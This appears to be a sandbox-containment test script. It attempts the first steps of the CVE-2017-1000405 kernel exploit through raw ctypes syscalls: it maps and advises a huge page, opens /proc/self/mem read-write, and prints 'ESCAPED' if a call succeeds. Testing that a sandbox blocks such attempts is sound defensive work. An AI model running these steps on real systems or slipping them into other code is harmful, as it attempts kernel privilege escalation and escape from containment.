# expect: error ImportError
# idea: the door is a huge page of zeros that is read, and written through /proc
# full: done
# source: CVE-2017-1000405
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attempt(what, number, *arguments):
    ctypes.set_errno(0)
    wide = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    got = libc.syscall(ctypes.c_long(number), *wide)
    print(f"ESCAPED: {what} gave {got}" if got >= 0 else f"{what}: errno {ctypes.get_errno()}")
    return got
page = libc.syscall(*[ctypes.c_long(n) for n in (9, 0, 1 << 22, 3, 0x22, -1, 0)])
print("madvise HUGEPAGE", libc.madvise(ctypes.c_void_p(page), ctypes.c_size_t(1 << 22), 14))
attempt("/proc/self/mem", 257, -100, b"/proc/self/mem", 2)
